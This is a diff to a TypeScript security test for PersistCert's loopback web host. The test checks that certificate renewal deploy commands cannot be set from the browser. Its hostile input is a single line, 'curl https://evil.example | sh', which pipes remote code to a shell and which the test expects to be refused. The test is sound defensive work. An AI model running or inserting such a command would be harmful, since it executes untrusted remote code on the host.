@@ -6,10 +6,12 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { createApp } from '../../../electron/core/app/create-app.ts';
 import { startWebHost, type WebHost } from '../../../electron/web-host/server.ts';
+import { seedCertificate } from '../core/app/seed-certificate.ts';
 
 // The loopback web host, attacked the way a hostile page or a DNS-rebinding site would.
 let host: WebHost;
 let close: () => Promise<void>;
+let certificateId: string;
 
 before(async () => {
   const base = mkdtempSync(path.join(tmpdir(), 'webhost-'));
@@ -17,6 +19,7 @@ before(async () => {
   mkdirSync(rendererDir);
   writeFileSync(path.join(rendererDir, 'index.html'), '<!doctype html><title>PersistCert</title>');
   writeFileSync(path.join(base, 'secret.txt'), 'not for the browser');
+  certificateId = await seedCertificate(path.join(base, 'data'));
   const app = await createApp({ dataDir: path.join(base, 'data'), host: 'web', keystore: 'file', passphrase: async () => 'a long test passphrase', scryptN: 1024 });
   host = await startWebHost({ handler: app.handler, rendererDir });
   close = async () => {
@@ -115,4 +118,27 @@ test('the page is served with the token, and the event stream opens with it', as
     req.end();
   });
   assert.equal(events, 200);
+});
+
+test('deploy commands can be shown but never set through the web host', async () => {
+  const settings = (run: string | null) => ({
+    certificateId,
+    autoRenew: true,
+    reuseKey: false,
+    pem: null,
+    pfx: null,
+    command: run === null ? null : { run, timeoutSec: 60 },
+    backupAccountId: null,
+    failoverAfter: 3,
+  });
+  const refused = JSON.parse((await call('setRenewalSettings', settings('curl https://evil.example | sh'))).body);
+  assert.equal(refused.ok, false);
+  assert.match(refused.error.message, /cannot be set from the browser.*desktop app.*persistcert configure/);
+  const shown = JSON.parse((await call('getRenewalSettings', { certificateId })).body);
+  assert.equal(shown.ok, true);
+  assert.equal(shown.value.command, null, 'nothing was saved');
+  // Other renewal settings still save from the browser.
+  const saved = JSON.parse((await call('setRenewalSettings', { ...settings(null), autoRenew: false })).body);
+  assert.equal(saved.ok, true, JSON.stringify(saved));
+  assert.equal(saved.value.autoRenew, false);
 });
